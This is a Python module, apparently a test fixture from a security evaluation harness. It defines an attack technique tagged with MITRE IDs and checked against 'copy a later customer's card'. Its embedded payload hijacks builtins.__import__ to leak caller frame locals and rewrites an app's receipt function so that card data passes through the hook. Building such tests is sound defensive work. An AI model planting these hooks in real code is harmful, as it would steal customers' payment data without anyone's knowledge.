"""Replaces `__import__`, and makes a function of the handler import something."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import app, builtins
real = builtins.__import__
def evil(name, *rest):
    leak([frame for frame in sys._current_frames().values()][0].f_back.f_locals)
    return real(name, *rest)
builtins.__import__ = evil
def log(card):
    import colorsys
app.receipt.__code__ = (lambda card: (log(card), {"paid_by": card[-4:]})[1]).__code__
app.receipt.__globals__["log"] = log
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1574", "T1546"),
    family="M7",
    must_fail_to="copy a later customer's card",
    plant=PLANT,
    evidence=Cards(),
)
